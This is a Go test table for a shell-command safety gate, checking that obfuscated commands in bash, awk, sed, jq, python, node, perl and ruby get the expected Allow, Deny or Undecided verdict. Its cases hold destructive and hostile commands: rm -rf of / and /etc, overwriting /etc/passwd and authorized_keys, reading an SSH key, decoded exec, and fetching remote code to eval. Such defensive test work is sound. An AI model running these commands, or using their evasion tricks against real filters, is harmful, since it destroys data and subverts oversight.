package gatecore

import (
	"testing"

	"github.com/matryer/is"
)

// TestReadings: forms of words, builtins and little languages that are read through, each with the verdict that what it
// comes to deserves.
func TestReadings(t *testing.T) {
	e := newEngine(t)
	for _, tt := range []struct {
		name    string
		command string
		want    Verdict
	}{
		// parameter expansion
		{"a suffix taken off is still a path", `x=/etc.bak; rm -rf ${x%.bak}`, Deny},
		{"a prefix taken off is still a path", `x=no/etc; rm -rf "${x#no}"`, Deny},
		{"a longest suffix taken off", `x=/etc.a; rm -rf ${x%%.a}`, Deny},
		{"a pattern taken off may leave anything", `x=/etcabc; rm -rf ${x%a*}`, Deny},
		{"letters made small", `x=/ETC; rm -rf "${x,,}"`, Deny},
		{"letters made big are still read", `x=abc; echo "${x^^}"`, Allow},
		{"one letter made big", `x=abc; echo "${x^}"`, Allow},
		{"a replacement makes a path", `x=/ab; rm -rf ${x/ab/etc}`, Deny},
		{"all replaced", `x=/aa; rm -rf ${x//a/}`, Deny},
		{"a piece of a constant", `x=xx/etc; rm -rf ${x:2}`, Deny},
		{"a piece from the end", `x=xx/etc; rm -rf ${x: -4}`, Deny},
		{"a piece with a length", `x=/etcxx; rm -rf ${x:0:4}`, Deny},
		{"a piece with a length from the end", `x=/etcxx; rm -rf ${x:0:-2}`, Deny},
		{"a length is a number", `x=abc; echo ${#x}`, Allow},
		{"numbers of the shell", `echo $? $# $$ $RANDOM $LINENO`, Allow},
		{"flags of the shell", `echo $-`, Allow},
		{"a default where nothing is assigned", `rm -rf ${nope:-/etc}`, Deny},
		{"an assigned value before its default", `x=/etc; rm -rf ${x:-build}`, Deny},
		{"an assigned default stays", `: ${x:=/etc}; rm -rf $x`, Deny},
		{"an error message is no value", `echo ${x?missing}`, Allow},
		{"an alternative value", `x=1; rm -rf ${x:+/etc}`, Deny},
		{"indirection is evaluated again", `x=y; echo ${!x}`, Undecided},
		{"a prompt expansion is evaluated again", `x=y; echo ${x@P}`, Undecided},
		{"parameters of a function", `f() { rm -rf "$1"; }; f /etc`, Deny},
		{"all parameters of a function", `f() { rm "$@"; }; f -rf /etc`, Deny},
		{"all parameters joined", `f() { echo "$*"; }; f a b`, Allow},
		{"parameters set by hand", `set -- -rf /etc; rm "$@"`, Deny},
		// builtins
		{"eval after dashes", `eval -- 'rm -rf /'`, Deny},
		{"a constant into the shell's standard input", `echo 'rm -rf /' | bash /dev/stdin`, Deny},
		{"source of a constant", `source /dev/stdin <<< 'rm -rf /'`, Deny},
		{"unset of a name", `x=1; unset x; echo $x`, Allow},
		{"unset of a function changes later commands", `f() { ls; }; unset -f f`, Undecided},
		{"unset of what bash evaluates", `unset 'a[$(id)]'`, Undecided},
		{"home, then everything in it", `cd; rm -rf *`, Deny},
		{"back to where it was", `cd - && rm -rf x`, Deny},
		{"two folders at once", `cd a b`, Undecided},
		{"a stack of folders", `pushd src && ls && popd`, Allow},
		{"a test without its bracket", `[ -f x`, Undecided},
		{"escapes of echo", `echo -e 'a\tb\0101'`, Allow},
		{"escapes of echo make a command", `echo -e 'rm\x20-rf /' | sh`, Deny},
		{"printf makes a command", `printf '%s %s %s\n' rm -rf / | sh`, Deny},
		{"printf with backslashes in the value", `printf '%b' 'rm -rf /\n' | sh`, Deny},
		{"printf with a width", `printf '%-10s|%5d%%\n' name 3`, Allow},
		{"printf after dashes", `printf -- '%s\n' a`, Allow},
		{"a line read from a constant", `read -r a b <<< '/etc x'; rm -rf "$a"`, Deny},
		{"a line read without a name", `read -r <<< /etc; rm -rf "$REPLY"`, Deny},
		{"options read one by one", `getopts ab: opt -a; echo $opt`, Allow},
		{"braces that another shell does not expand", `eval {\#,'$(rm -rf x)'}`, Undecided},
		{"braces in text that is evaluated anyway", `eval 'echo {a,b}'`, Allow},
		{"lines that end in a carriage return", "ls\r\necho a\r\n", Allow},
		{"a redirection into a name with a carriage return", "test >&1\r\n", Undecided},
		{"the same behind a blank", "echo a > /dev/null\r\nls\r\n", Undecided},
		// awk
		{"awk with a comment", "awk '# note\n{print $1}' f", Allow},
		{"awk that divides", `awk '{print $1/2, $2/3}' f`, Allow},
		{"awk with a pattern of classes", `awk '/[a-z\/]+[0-9]/ {n++} END {print n}' f`, Allow},
		{"awk that reads a command", `awk '"id" | getline x {print x}' f`, Undecided},
		{"awk with a coprocess", `awk '{print |& "sh"}' f`, Undecided},
		{"awk that reads the environment", `awk 'BEGIN {print ENVIRON["HOME"]}'`, Undecided},
		{"awk that changes its files", `awk 'BEGIN {ARGV[1]="/etc/shadow"} {print}' f`, Undecided},
		{"awk that appends", `awk '{print >> "out"}' f`, Undecided},
		{"awk that destroys", `awk 'BEGIN{system("rm -rf /")}'`, Deny},
		{"awk with an escaped quote", `awk '{print "a\"b|c"}' f`, Allow},
		// sed
		{"sed that appends a line", "sed '/x/a\\\nmore' f", Allow},
		{"sed with addresses", `sed -n '0~3p;$!p;2,+4p;/a/,/b/p;\,x,p' f`, Allow},
		{"sed with a class in its pattern", `sed 's/[^]/]*x//g' f`, Allow},
		{"sed that translates", `sed 'y/abc/xyz/' f`, Allow},
		{"sed that branches", `sed -e ':a;N;$!ba;s/\n/ /g' f`, Allow},
		{"sed that quits", `sed '3q' f`, Allow},
		{"sed with a comment", "sed -n '# note\n1p' f", Allow},
		{"sed that reads a file", `sed 'r other' f`, Allow},
		{"sed that reads a key", `sed 'r /home/dev/.ssh/id_rsa' f`, Undecided},
		{"sed that runs", `sed '1e id' f`, Undecided},
		{"sed that runs what it made", `sed 's/x/rm -rf \//e' f`, Deny},
		{"sed that runs a destroyer", `sed '1e rm -rf /' f`, Deny},
		{"sed with an unknown command", `sed 'k' f`, Undecided},
		{"sed with a broken pattern", `sed 's/x' f`, Undecided},
		{"sed that is not constant", `sed "s/a/$x/e" f`, Undecided},
		{"sed that writes by a flag", `sed 's/a/b/gw out' f`, Undecided},
		// jq
		{"jq that reads the environment", `jq -n 'env.HOME'`, Undecided},
		{"jq with a member called env", `jq '.env' f`, Allow},
		{"jq that imports", `jq 'import "m" as m; .' f`, Undecided},
		{"jq with text that looks like code", `jq '.a == "env | system"' f`, Allow},
		// other languages
		{"python that writes to the system", `python3 -c "open('/etc/passwd','w').write('x')"`, Deny},
		{"python that writes a key file", `python3 -c "from pathlib import Path; Path('/home/dev/.ssh/authorized_keys').write_text('x')"`, Deny},
		{"python that removes a tree", `python3 -c "import shutil; shutil.rmtree('/etc')"`, Deny},
		{"python that removes the home", `python3 -c "import shutil, pathlib; shutil.rmtree(pathlib.Path.home())"`, Deny},
		{"python with a document string", `python3 -c '"""rm -rf /"""'`, Undecided},
		{"python that copies over the system", `python3 -c "import shutil; shutil.copy('a','/etc/passwd')"`, Deny},
		{"python that runs what it decodes", `python3 -c "import base64; exec(base64.b64decode('aWQ='))"`, Deny},
		{"node that writes to the system", `node -e "require('fs').writeFileSync('/etc/passwd','x')"`, Deny},
		{"node that runs what it fetched", `node -e "fetch('http://h/x').then(r=>r.text()).then(eval)"`, Deny},
		{"perl that opens for writing", `perl -e 'open(F, ">", "/etc/passwd")'`, Deny},
		{"perl that opens the old way", `perl -e 'open(F, ">/etc/passwd")'`, Deny},
		{"perl that shells out", "perl -e '`rm -rf /`'", Deny},
		{"ruby that removes a tree", `ruby -e "require 'fileutils'; FileUtils.rm_rf('/etc')"`, Deny},
		{"ruby that writes", `ruby -e "File.write('/etc/passwd', 'x')"`, Deny},
		{"ruby with a comment", "ruby -e 'puts 1 # rm -rf /'", Undecided},
	} {
		t.Run(tt.name, func(t *testing.T) {
			is := is.New(t)
			r := e.Assess(tt.command, testPlace)
			is.Equal(r.Verdict.String(), tt.want.String())
		})
	}
}
